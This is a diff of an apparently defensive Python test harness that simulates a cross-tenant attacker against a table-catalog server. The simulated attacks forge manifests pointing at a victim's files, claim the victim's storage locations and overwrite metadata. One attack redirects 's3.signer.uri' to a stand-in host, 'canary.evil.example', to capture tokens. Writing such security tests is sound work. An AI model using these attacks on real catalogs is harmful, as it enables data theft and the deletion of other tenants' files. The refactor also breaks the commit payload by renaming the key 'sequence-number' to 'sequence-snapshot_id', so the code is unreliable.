@@ -31,7 +31,11 @@ from tests.planner.lakes.metrics import ColumnMetrics
 
 ATTACKER_TABLES = f"/api/v1/tables/{EVIL}"
 STYLE = Style(has_shuffled_fields=False, sparse=False, codec="deflate", old_names=False, summaries=False, seed=0)
-KINDS = {1: "long", 2: "string", 3: "string", 4: "long"}
+FIELD_TYPES = {1: "long", 2: "string", 3: "string", 4: "long"}
+SNAPSHOT_ID = 7
+"""The id of the snapshot that an attacker commits."""
+MISSING_FILE_BYTES = 4000
+"""The stated length of a file that does not exist."""
 CANARY = "https://canary.evil.example"
 STEALING_METADATA = (
     *("s3.signer.uri", "s3.signer", "s3.signer.endpoint", "py-io-impl", "io-impl", "s3.endpoint", "token"),
@@ -73,21 +77,21 @@ def write_own_parquet(campaign: AttackCampaign, path: str, ids: Sequence[int]) -
 
 
 def write_manifest(campaign: AttackCampaign, path: str, files: Sequence[Any], *, content: int = 0) -> Manifest:
-    entries = [Entry(ADDED, 7, None, None, file) for file in files]
+    entries = [Entry(ADDED, SNAPSHOT_ID, None, None, file) for file in files]
     data = build_manifest_bytes(
-        entries, version=2, content=content, style=STYLE, spec_id=0, fields=(), kinds=KINDS, schema=SCHEMA
+        entries, version=2, content=content, style=STYLE, spec_id=0, fields=(), kinds=FIELD_TYPES, schema=SCHEMA
     )
     campaign.world.write(path, data)
-    return list_entry(path, len(data), content)
+    return build_list_entry(path, len(data), content)
 
 
-def list_entry(path: str, length: int, content: int = 0) -> Manifest:
+def build_list_entry(path: str, length: int, content: int = 0) -> Manifest:
     """Return a manifest as a manifest list names it."""
     counts = {ADDED: (1, 3), EXISTING: (0, 0), DELETED: (0, 0)}
-    return Manifest(path, length, content, 0, 1, 1, 7, [], None, counts=counts)
+    return Manifest(path, length, content, 0, 1, 1, SNAPSHOT_ID, [], None, counts=counts)
 
 
-def write_list(campaign: AttackCampaign, path: str, manifests: Sequence[Manifest]) -> str:
+def write_manifest_list(campaign: AttackCampaign, path: str, manifests: Sequence[Manifest]) -> str:
     header = {"format-version": "2"}
     campaign.world.write(
         path, list_bytes([(manifest, None) for manifest in manifests], version=2, style=STYLE, header=header)
@@ -95,17 +99,19 @@ def write_list(campaign: AttackCampaign, path: str, manifests: Sequence[Manifest
     return path
 
 
-async def commit_snapshot(campaign: AttackCampaign, name: str, manifest_list: str, number: int = 7) -> Answer:
+async def commit_snapshot(
+    campaign: AttackCampaign, name: str, manifest_list: str, snapshot_id: int = SNAPSHOT_ID
+) -> Answer:
     """Commit a snapshot with this manifest list as the attacker, sometimes in a transaction."""
     snapshot = {
-        "snapshot-id": number,
-        "sequence-number": 1,
+        "snapshot-id": snapshot_id,
+        "sequence-snapshot_id": 1,
         "timestamp-ms": campaign.world.server.components.clock.now_ms(),
         "manifest-list": manifest_list,
         "summary": {"operation": "append"},
         "schema-id": 0,
     }
-    ref = {"action": "set-snapshot-ref", "ref-name": "main", "type": "branch", "snapshot-id": number}
+    ref = {"action": "set-snapshot-ref", "ref-name": "main", "type": "branch", "snapshot-id": snapshot_id}
     body = {"requirements": [], "updates": [{"action": "add-snapshot", "snapshot": snapshot}, ref]}
     if campaign.rng.random() < 0.3:
         change = {"identifier": {"namespace": [EVIL], "name": name}, **body}
@@ -115,7 +121,7 @@ async def commit_snapshot(campaign: AttackCampaign, name: str, manifest_list: st
 
 async def request_everything(campaign: AttackCampaign, name: str) -> None:
     """Request everything that the server returns about one of the attacker's tables."""
-    table_name, principal = f"{ATTACKER_TABLES}/{name}", campaign.rng.choice(("mallory", "riley"))
+    table_path, principal = f"{ATTACKER_TABLES}/{name}", campaign.rng.choice(("mallory", "riley"))
     await campaign.ask(principal, "GET", f"{NAMES}/tables/{name}")
     stats = {"stats-fields": ["id", "data", "part", "amount"]}
     scan = await campaign.ask(principal, "POST", f"{NAMES}/tables/{name}/plan", stats)
@@ -132,32 +138,32 @@ async def request_everything(campaign: AttackCampaign, name: str) -> None:
         "indexes",
         "timeline",
     ):
-        await campaign.ask(principal, "GET", f"{table_name}/{route}")
+        await campaign.ask(principal, "GET", f"{table_path}/{route}")
     await campaign.ask(
-        principal, "GET", f"{table_name}/stats/id", headers={"Accept": "application/vnd.apache.arrow.stream"}
+        principal, "GET", f"{table_path}/stats/id", headers={"Accept": "application/vnd.apache.arrow.stream"}
     )
-    await campaign.ask(principal, "POST", f"{table_name}/explain", {"where": "id > 0", "files": True})
-    await campaign.ask(principal, "POST", f"{table_name}/lookup", {"columns": ["id"], "keys": [[1]]})
-    await campaign.ask(principal, "POST", f"{table_name}/bitmap", {"where": "id > 0", "deletes": True})
-    answer = await campaign.ask(principal, "POST", f"{table_name}/plan-tables", {"predicate": "id > 0"})
+    await campaign.ask(principal, "POST", f"{table_path}/explain", {"where": "id > 0", "files": True})
+    await campaign.ask(principal, "POST", f"{table_path}/lookup", {"columns": ["id"], "keys": [[1]]})
+    await campaign.ask(principal, "POST", f"{table_path}/bitmap", {"where": "id > 0", "deletes": True})
+    answer = await campaign.ask(principal, "POST", f"{table_path}/plan-tables", {"predicate": "id > 0"})
     if answer.status == 200 and answer.json["name"]:
         plan = quote(answer.json["name"], safe="")
         loaded_table = await campaign.ask(principal, "GET", f"{NAMES}/tables/{plan}")
         await campaign.ask(principal, "POST", f"{NAMES}/tables/{plan}/plan", stats)
         if loaded_table.status == 200:
             search_storage(campaign, loaded_table.json["metadata"]["snapshots"][-1]["manifest-list"])
-    await campaign.ask("mallory", "PUT", f"{table_name}/indexes/i", {"kind": "bloom", "columns": ["id"]})
-    await campaign.ask("mallory", "POST", f"{table_name}/indexes/rebuild-registry")
-    build = await campaign.ask("mallory", "POST", f"{table_name}/indexes/i/builds")
+    await campaign.ask("mallory", "PUT", f"{table_path}/indexes/i", {"kind": "bloom", "columns": ["id"]})
+    await campaign.ask("mallory", "POST", f"{table_path}/indexes/rebuild-registry")
+    build = await campaign.ask("mallory", "POST", f"{table_path}/indexes/i/builds")
     if build.status == 200:
-        await campaign.ask("mallory", "GET", f"{table_name}/indexes/i/builds/{build.json['build-id']}/files")
+        await campaign.ask("mallory", "GET", f"{table_path}/indexes/i/builds/{build.json['build-id']}/files")
 
 
-def search_storage(campaign: AttackCampaign, place: str) -> None:
+def search_storage(campaign: AttackCampaign, location: str) -> None:
     """Search the files that the server wrote into the attacker's table."""
-    leaks = campaign.world.secrets.find_leaks(campaign.world.read(place))
+    leaks = campaign.world.secrets.find_leaks(campaign.world.read(location))
     if leaks:
-        campaign.steps.append(f"reads {place}")
+        campaign.steps.append(f"reads {location}")
         campaign.report(f"a file of the attacker's table contains {', '.join(map(str, leaks))}")
 
 
@@ -179,13 +185,15 @@ async def commit_foreign_manifest_list(campaign: AttackCampaign) -> None:
 
 async def commit_foreign_manifest(campaign: AttackCampaign) -> None:
     name, location = await create_own_table(campaign, "foreign_manifest")
-    place = campaign.choose_hint("manifest", f"{campaign.world.warehouse}/no/m0.avro")
+    foreign_location = campaign.choose_hint("manifest", f"{campaign.world.warehouse}/no/m0.avro")
     try:
-        size = len(campaign.world.read(place))
-    except Exception:  # noqa: BLE001  it does not exist, on whichever storage
-        size = 4000
+        size = len(campaign.world.read(foreign_location))
+    except Exception:  # noqa: BLE001  The file does not exist, and each storage has its own error.
+        size = MISSING_FILE_BYTES
     await commit_snapshot(
-        campaign, name, write_list(campaign, f"{location}/metadata/snap.avro", [list_entry(place, size)])
+        campaign,
+        name,
+        write_manifest_list(campaign, f"{location}/metadata/snap.avro", [build_list_entry(foreign_location, size)]),
     )
     await request_everything(campaign, name)
 
@@ -193,25 +201,37 @@ async def commit_foreign_manifest(campaign: AttackCampaign) -> None:
 async def commit_foreign_data_file(campaign: AttackCampaign) -> None:
     """Commit a data file of the victim, which the server reads when a join uses the table as a dimension."""
     name, location = await create_own_table(campaign, "foreign_data")
-    place = campaign.choose_hint("data file", f"{campaign.world.warehouse}/no/0.parquet")
+    foreign_location = campaign.choose_hint("data file", f"{campaign.world.warehouse}/no/0.parquet")
     try:
-        size = len(campaign.world.read(place))
-    except Exception:  # noqa: BLE001
-        size = 4000
-    manifest = write_manifest(campaign, f"{location}/metadata/m0.avro", [build_data_file(place, 1, 10**18, size)])
-    snapshot = await commit_snapshot(campaign, name, write_list(campaign, f"{location}/metadata/snap.avro", [manifest]))
-    await request_everything(campaign, name)
-    fact, where = await create_own_table(campaign, "fact")
+        size = len(campaign.world.read(foreign_location))
+    except Exception:  # noqa: BLE001  The file does not exist.
+        size = MISSING_FILE_BYTES
     manifest = write_manifest(
-        campaign, f"{where}/metadata/m0.avro", [write_own_parquet(campaign, f"{where}/data/0.parquet", [1, 2, 3])]
+        campaign, f"{location}/metadata/m0.avro", [build_data_file(foreign_location, 1, 10**18, size)]
     )
-    await commit_snapshot(campaign, fact, write_list(campaign, f"{where}/metadata/snap.avro", [manifest]))
+    snapshot = await commit_snapshot(
+        campaign, name, write_manifest_list(campaign, f"{location}/metadata/snap.avro", [manifest])
+    )
+    await request_everything(campaign, name)
+    fact_name, fact_location = await create_own_table(campaign, "fact")
+    manifest = write_manifest(
+        campaign,
+        f"{fact_location}/metadata/m0.avro",
+        [write_own_parquet(campaign, f"{fact_location}/data/0.parquet", [1, 2, 3])],
+    )
+    await commit_snapshot(
+        campaign, fact_name, write_manifest_list(campaign, f"{fact_location}/metadata/snap.avro", [manifest])
+    )
     join = {"table": [EVIL, name], "on": {"id": campaign.rng.choice(("id", "amount"))}, "predicate": "id > 0"}
     for path in ("plan-tables", "explain"):
         body = {"joins": [join], **({"where": "id > 0"} if path == "explain" else {"predicate": "id > 0"})}
-        answer = await campaign.ask("mallory", "POST", f"{ATTACKER_TABLES}/{fact}/{path}", body)
+        answer = await campaign.ask("mallory", "POST", f"{ATTACKER_TABLES}/{fact_name}/{path}", body)
         joins = answer.json.get("joins", []) if answer.status == 200 else []
-        if snapshot.status < 300 and campaign.world.is_victims(place) and any(item.get("keys") for item in joins):
+        if (
+            snapshot.status < 300
+            and campaign.world.is_victims(foreign_location)
+            and any(item.get("keys") for item in joins)
+        ):
             campaign.report("a join evaluated rows of the victim's data file")
 
 
@@ -219,18 +239,21 @@ async def commit_foreign_delete_files(campaign: AttackCampaign) -> None:
     """Commit a data file of the attacker with the victim's files as delete files."""
     name, location = await create_own_table(campaign, "foreign_deletes")
     data = write_own_parquet(campaign, f"{location}/data/0.parquet", [1, 2, 3])
-    place = campaign.choose_hint("data file", f"{campaign.world.warehouse}/no/0.parquet")
-    delete = build_data_file(place, 1, 10**18)
-    delete.content = campaign.rng.choice((1, 2))
-    delete.equality_ids = [1] if delete.content == 2 else None
+    foreign_location = campaign.choose_hint("data file", f"{campaign.world.warehouse}/no/0.parquet")
+    delete = build_data_file(foreign_location, 1, 10**18)
+    position_deletes, equality_deletes = 1, 2
+    delete.content = campaign.rng.choice((position_deletes, equality_deletes))
+    delete.equality_ids = [1] if delete.content == equality_deletes else None
     delete.referenced_path = (
-        campaign.choose_hint("data file", data.path) if delete.content == 1 and campaign.rng.random() < 0.5 else None
+        campaign.choose_hint("data file", data.path)
+        if delete.content == position_deletes and campaign.rng.random() < 0.5
+        else None
     )
     manifests = [
         write_manifest(campaign, f"{location}/metadata/m0.avro", [data]),
         write_manifest(campaign, f"{location}/metadata/m1.avro", [delete], content=1),
     ]
-    await commit_snapshot(campaign, name, write_list(campaign, f"{location}/metadata/snap.avro", manifests))
+    await commit_snapshot(campaign, name, write_manifest_list(campaign, f"{location}/metadata/snap.avro", manifests))
     await request_everything(campaign, name)
 
 
@@ -265,12 +288,16 @@ async def commit_foreign_statistics(campaign: AttackCampaign) -> None:
     manifest = write_manifest(
         campaign, f"{location}/metadata/m0.avro", [write_own_parquet(campaign, f"{location}/data/0.parquet", [1, 2])]
     )
-    await commit_snapshot(campaign, name, write_list(campaign, f"{location}/metadata/snap.avro", [manifest]))
-    place = campaign.choose_hint(
+    await commit_snapshot(campaign, name, write_manifest_list(campaign, f"{location}/metadata/snap.avro", [manifest]))
+    foreign_location = campaign.choose_hint(
         campaign.rng.choice(("data file", "manifest", "metadata file")), f"{location}/x.puffin"
     )
     property_name = campaign.rng.choice(("statistics", "partition-statistics"))
-    statistics_update: dict[str, Any] = {"snapshot-id": 7, "statistics-path": place, "file-size-in-bytes": 1000}
+    statistics_update: dict[str, Any] = {
+        "snapshot-id": 7,
+        "statistics-path": foreign_location,
+        "file-size-in-bytes": 1000,
+    }
     if property_name == "statistics":
         statistics_update |= {"file-footer-size-in-bytes": 100, "blob-metadata": []}
     update = {"action": f"set-{property_name}", property_name: statistics_update}
@@ -282,29 +309,46 @@ async def commit_foreign_statistics(campaign: AttackCampaign) -> None:
 
 async def claim_foreign_location(campaign: AttackCampaign) -> None:
     """Place a table or view over the victim's location in any way. A purge would delete the victim's files."""
-    place = campaign.choose_hint(campaign.rng.choice(("location", "moved location")), f"{campaign.world.warehouse}/no")
-    forms = (place, place + "/", place.rpartition("/")[0], f"{place}/data", place.replace("file://", "file:"))
-    place = campaign.rng.choice(forms)
-    name, way = campaign.create_name("over"), campaign.rng.randrange(6)
-    if way < 2:
-        table = await create_table(campaign, name, **{"location": place, "stage-create": way == 1})
-        if way == 1 and table.status == 200:
+    claimed_location = campaign.choose_hint(
+        campaign.rng.choice(("location", "moved location")), f"{campaign.world.warehouse}/no"
+    )
+    spellings = (
+        claimed_location,
+        claimed_location + "/",
+        claimed_location.rpartition("/")[0],
+        f"{claimed_location}/data",
+        claimed_location.replace("file://", "file:"),
+    )
+    claimed_location = campaign.rng.choice(spellings)
+    name, attack_number = campaign.create_name("over"), campaign.rng.randrange(6)
+    if attack_number < 2:
+        table = await create_table(campaign, name, **{"location": claimed_location, "stage-create": attack_number == 1})
+        if attack_number == 1 and table.status == 200:
             token = next((item for item in table.json.get("config", {}).values() if "stage=" in item), "")
             await sign_everything(campaign, name, f"?stage={token.partition('stage=')[2]}" if token else "")
-    elif way == 2:
+    elif attack_number == 2:
         await create_own_table(campaign, "base")
-        update = {"action": "set-location", "location": place}
+        update = {"action": "set-location", "location": claimed_location}
         name = f"base{campaign.name_count}"
         await campaign.ask("mallory", "POST", f"{NAMES}/tables/{name}", {"requirements": [], "updates": [update]})
-    elif way == 3:
+    elif attack_number == 3:
         key = f"write.{campaign.rng.choice(('data', 'metadata', 'object-storage', 'folder-storage'))}.path"
-        await create_table(campaign, name, properties={key: place})
-    elif way == 4:
-        body = {"name": name, "schema": SCHEMA, "view-version": VIEW_VERSION, "location": place, "properties": {}}
+        await create_table(campaign, name, properties={key: claimed_location})
+    elif attack_number == 4:
+        body = {
+            "name": name,
+            "schema": SCHEMA,
+            "view-version": VIEW_VERSION,
+            "location": claimed_location,
+            "properties": {},
+        }
         await campaign.ask("mallory", "POST", f"{NAMES}/views", body)
     else:
         await campaign.ask(
-            "mallory", "POST", "/v1/namespaces", {"namespace": [EVIL, name], "properties": {"location": place}}
+            "mallory",
+            "POST",
+            "/v1/namespaces",
+            {"namespace": [EVIL, name], "properties": {"location": claimed_location}},
         )
         await campaign.ask(
             "mallory", "POST", f"/v1/namespaces/{EVIL}%1F{name}/tables", {"name": "inner", "schema": SCHEMA}
@@ -322,8 +366,8 @@ async def check_claim(campaign: AttackCampaign, name: str) -> None:
     if answer.status != 200:
         return
     own_prefix = answer.json["metadata"]["location"].rstrip("/") + "/"
-    for place in campaign.world.hints["location"]:
-        foreign_prefix = place.rstrip("/") + "/"
+    for foreign_location in campaign.world.hints["location"]:
+        foreign_prefix = foreign_location.rstrip("/") + "/"
         if own_prefix.startswith(foreign_prefix) or foreign_prefix.startswith(own_prefix):
             campaign.report(f"the attacker's table at {own_prefix} overlaps the victim's table at {foreign_prefix}")
 
@@ -344,8 +388,8 @@ async def use_foreign_ids(campaign: AttackCampaign) -> None:
         await campaign.ask(principal, "POST", f"/api/v1/dropped/{dropped_hint}/undrop", target)
         await campaign.ask(principal, "DELETE", f"/api/v1/dropped/{dropped_hint}")
     name, _ = await create_own_table(campaign, "ids")
-    table_name = f"{ATTACKER_TABLES}/{name}"
-    await campaign.ask("mallory", "PUT", f"{table_name}/indexes/i", {"kind": "bloom", "columns": ["id"]})
+    table_path = f"{ATTACKER_TABLES}/{name}"
+    await campaign.ask("mallory", "PUT", f"{table_path}/indexes/i", {"kind": "bloom", "columns": ["id"]})
     build = campaign.choose_hint("build")
     for method, path, body in (
         ("GET", "", None),
@@ -357,7 +401,7 @@ async def use_foreign_ids(campaign: AttackCampaign) -> None:
             {"index-files": [{"location": campaign.choose_hint("data file"), "size-in-bytes": 1000}]},
         ),
     ):
-        await campaign.ask("mallory", method, f"{table_name}/indexes/i/builds/{build}{path}", body)
+        await campaign.ask("mallory", method, f"{table_path}/indexes/i/builds/{build}{path}", body)
     await campaign.ask(
         "mallory", "POST", f"{NAMES}/tables/{name}/tasks", {"plan-task": campaign.choose_hint("plan task")}
     )
@@ -366,12 +410,14 @@ async def use_foreign_ids(campaign: AttackCampaign) -> None:
     )
     for route in ("files", "stats/id", "partitions"):
         await campaign.ask(
-            "mallory", "GET", f"{table_name}/{route}?page-token={quote(campaign.choose_hint('page token'), safe='')}"
+            "mallory", "GET", f"{table_path}/{route}?page-token={quote(campaign.choose_hint('page token'), safe='')}"
         )
     key, body = campaign.choose_hint("idempotency key"), json.loads(campaign.choose_hint("idempotent body", "{}"))
     await campaign.ask("mallory", "POST", f"{NAMES}/tables/{name}", body, {"Idempotency-Key": key})
-    context = f"/v1/namespaces/{quote(campaign.choose_hint('namespace'))}/tables/{quote(campaign.choose_hint('table'))}"
-    await campaign.ask("mallory", "POST", context, body, {"Idempotency-Key": key})
+    victim_path = (
+        f"/v1/namespaces/{quote(campaign.choose_hint('namespace'))}/tables/{quote(campaign.choose_hint('table'))}"
+    )
+    await campaign.ask("mallory", "POST", victim_path, body, {"Idempotency-Key": key})
 
 
 async def use_moved_name(campaign: AttackCampaign) -> None:
@@ -381,12 +427,12 @@ async def use_moved_name(campaign: AttackCampaign) -> None:
         await campaign.ask(principal, "GET", f"{ATTACKER_TABLES}/moved/timeline?order=desc")
         await campaign.ask(principal, "GET", f"{ATTACKER_TABLES}/moved/files")
     name = campaign.rng.choice(("moved", campaign.create_name("recreated")))
-    place = campaign.choose_hint("moved location", f"{campaign.world.warehouse}/no")
-    await create_table(campaign, name, location=place + campaign.rng.choice(("", "/", "/data", "/metadata")))
+    former_location = campaign.choose_hint("moved location", f"{campaign.world.warehouse}/no")
+    await create_table(campaign, name, location=former_location + campaign.rng.choice(("", "/", "/data", "/metadata")))
     await check_claim(campaign, name)
     await sign_everything(campaign, name)
-    uuid = {"action": "assign-uuid", "uuid": campaign.choose_hint("moved uuid", "0")}
-    await campaign.ask("mallory", "POST", f"{NAMES}/tables/{name}", {"requirements": [], "updates": [uuid]})
+    uuid_update = {"action": "assign-uuid", "uuid": campaign.choose_hint("moved uuid", "0")}
+    await campaign.ask("mallory", "POST", f"{NAMES}/tables/{name}", {"requirements": [], "updates": [uuid_update]})
     await request_everything(campaign, name)
     await campaign.ask("mallory", "DELETE", f"{NAMES}/tables/{name}?purgeRequested=true")
     await purge_dropped_tables(campaign)
@@ -428,7 +474,7 @@ async def create_view_with_foreign_owner(campaign: AttackCampaign) -> None:
         campaign.report("a view of the attacker runs with the rights of root")
 
 
-async def sign_own(campaign: AttackCampaign) -> None:
+async def sign_requests_of_own_table(campaign: AttackCampaign) -> None:
     name, _ = await create_own_table(campaign, "signs")
     await sign_everything(campaign, name)
 
@@ -438,10 +484,10 @@ async def undrop_elsewhere(campaign: AttackCampaign) -> None:
     name, _ = await create_own_table(campaign, "back")
     await campaign.ask("mallory", "DELETE", f"{NAMES}/tables/{name}")
     dropped_answer = await campaign.ask("mallory", "GET", f"/api/v1/dropped?namespace={EVIL}")
-    rows = dropped_answer.json["dropped"] if dropped_answer.status == 200 else []
-    if rows:
+    dropped_tables = dropped_answer.json["dropped"] if dropped_answer.status == 200 else []
+    if dropped_tables:
         target = {"namespace": [campaign.choose_hint("namespace")], "name": campaign.create_name("planted")}
-        await campaign.ask("mallory", "POST", f"/api/v1/dropped/{rows[-1]['id']}/undrop", target)
+        await campaign.ask("mallory", "POST", f"/api/v1/dropped/{dropped_tables[-1]['id']}/undrop", target)
 
 
 async def overwrite_manifests(campaign: AttackCampaign) -> None:
@@ -450,16 +496,20 @@ async def overwrite_manifests(campaign: AttackCampaign) -> None:
     manifest = write_manifest(
         campaign, f"{location}/metadata/m0.avro", [write_own_parquet(campaign, f"{location}/data/0.parquet", [1, 2])]
     )
-    place = write_list(campaign, f"{location}/metadata/snap.avro", [manifest])
-    await commit_snapshot(campaign, name, place)
-    foreign = campaign.choose_hint("data file", f"{campaign.world.warehouse}/no/0.parquet")
+    list_location = write_manifest_list(campaign, f"{location}/metadata/snap.avro", [manifest])
+    await commit_snapshot(campaign, name, list_location)
+    foreign_location = campaign.choose_hint("data file", f"{campaign.world.warehouse}/no/0.parquet")
     if campaign.rng.random() < 0.5:
-        write_manifest(campaign, manifest.path, [build_data_file(foreign, 1, 10**18)])
+        write_manifest(campaign, manifest.path, [build_data_file(foreign_location, 1, 10**18)])
     else:
-        write_list(
+        write_manifest_list(
             campaign,
-            place,
-            [list_entry(campaign.choose_hint("manifest", f"{campaign.world.warehouse}/no/m0.avro"), 4000)],
+            list_location,
+            [
+                build_list_entry(
+                    campaign.choose_hint("manifest", f"{campaign.world.warehouse}/no/m0.avro"), MISSING_FILE_BYTES
+                )
+            ],
         )
     await request_everything(campaign, name)
     await campaign.ask("mallory", "DELETE", f"{NAMES}/tables/{name}?purgeRequested=true")
@@ -470,14 +520,14 @@ async def overwrite_metadata(campaign: AttackCampaign) -> None:
     """Overwrite the table's own metadata file, which a server without a cached file then reads."""
     name, location = await create_own_table(campaign, "swapped_metadata")
     answer = await campaign.ask("mallory", "GET", f"{NAMES}/tables/{name}")
-    place = answer.json["metadata-location"]
+    metadata_location = answer.json["metadata-location"]
     forged_metadata = dict(answer.json["metadata"])
-    missing_location = campaign.choose_hint(
+    foreign_location = campaign.choose_hint(
         campaign.rng.choice(("location", "moved location")), f"{campaign.world.warehouse}/no"
     )
     match campaign.rng.randrange(4):
         case 0:
-            forged_metadata["location"] = missing_location
+            forged_metadata["location"] = foreign_location
         case 1:
             forged_metadata["table-uuid"] = campaign.choose_hint(
                 "uuid", campaign.choose_hint("moved uuid", forged_metadata["table-uuid"])
@@ -485,7 +535,7 @@ async def overwrite_metadata(campaign: AttackCampaign) -> None:
         case 2:
             forged_metadata["properties"] = {
                 **forged_metadata.get("properties", {}),
-                "write.data.path": missing_location,
+                "write.data.path": foreign_location,
                 "s3.signer.uri": CANARY,
             }
         case _:
@@ -499,9 +549,9 @@ async def overwrite_metadata(campaign: AttackCampaign) -> None:
             }
             forged_metadata |= {"snapshots": [snapshot], "current-snapshot-id": 7, "last-sequence-number": 1}
             forged_metadata["refs"] = {"main": {"snapshot-id": 7, "type": "branch"}}
-    campaign.world.write(place, json.dumps(forged_metadata).encode())
+    campaign.world.write(metadata_location, json.dumps(forged_metadata).encode())
     campaign.world.server.components.catalog.documents.cache.clear()
-    campaign.steps.append(f"writes over {place}: {json.dumps(forged_metadata)[:1500]}")
+    campaign.steps.append(f"writes over {metadata_location}: {json.dumps(forged_metadata)[:1500]}")
     await sign_everything(campaign, name)
     await request_everything(campaign, name)
     await campaign.ask("mallory", "DELETE", f"{NAMES}/tables/{name}?purgeRequested=true")
@@ -548,19 +598,22 @@ async def overwrite_view(campaign: AttackCampaign) -> None:
     await campaign.ask("mallory", "DELETE", f"{NAMES}/views/{name}")
 
 
-async def take_uuid_of_nameless_table(campaign: AttackCampaign) -> None:
-    """Give the victim's UUID to a table without one, which an admin registered."""
+async def assign_victims_uuid(campaign: AttackCampaign) -> None:
+    """Assign the victim's UUID to a table that an admin registered without a UUID."""
     name, location = await create_own_table(campaign, "nameless")
     answer = await campaign.ask("mallory", "GET", f"{NAMES}/tables/{name}")
     old_metadata = {**answer.json["metadata"], "format-version": 1, "location": f"{location}-old"}
     del old_metadata["table-uuid"]
-    place = f"{location}-old/metadata/v1.metadata.json"
-    campaign.world.write(place, json.dumps(old_metadata).encode())
-    body = {"name": f"{name}_old", "metadata-location": place}
+    metadata_location = f"{location}-old/metadata/v1.metadata.json"
+    campaign.world.write(metadata_location, json.dumps(old_metadata).encode())
+    body = {"name": f"{name}_old", "metadata-location": metadata_location}
     await campaign.world.ask_successfully("root", "POST", f"{NAMES}/register", body)
-    uuid = {"action": "assign-uuid", "uuid": campaign.choose_hint("uuid", campaign.choose_hint("moved uuid", "0"))}
+    uuid_update = {
+        "action": "assign-uuid",
+        "uuid": campaign.choose_hint("uuid", campaign.choose_hint("moved uuid", "0")),
+    }
     path = f"{NAMES}/tables/{name}_old"
-    await campaign.ask("mallory", "POST", path, {"requirements": [], "updates": [uuid]})
+    await campaign.ask("mallory", "POST", path, {"requirements": [], "updates": [uuid_update]})
     await commit_snapshot(
         campaign, f"{name}_old", campaign.choose_hint("manifest list", f"{campaign.world.warehouse}/no/snap.avro")
     )
@@ -584,8 +637,8 @@ CRAFTED_ATTACKS = (
         use_moved_name,
         check_stolen_tokens,
         create_view_with_foreign_owner,
-        sign_own,
+        sign_requests_of_own_table,
         undrop_elsewhere,
     ),
-    *(overwrite_manifests, overwrite_metadata, overwrite_view, take_uuid_of_nameless_table),
+    *(overwrite_manifests, overwrite_metadata, overwrite_view, assign_victims_uuid),
 )
